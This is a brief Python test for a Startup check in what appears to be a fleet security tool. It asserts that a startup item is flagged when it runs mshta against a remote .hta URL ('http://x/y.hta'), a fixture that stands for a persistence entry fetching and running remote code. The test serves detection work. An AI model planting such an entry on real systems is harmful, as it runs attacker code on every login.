from __future__ import annotations

from sekisho.fleet.checks.startup import Startup


def test_what_starts_with_a_session() -> None:
    rows = [
        {"name": "OneDrive", "path": r"C:\Program Files\OneDrive.exe"},
        {"name": "x", "path": "mshta", "args": "http://x/y.hta"},
    ]
    (found,) = Startup().judge({"startup_items": rows})
    assert found.startswith("start-up item x runs mshta")
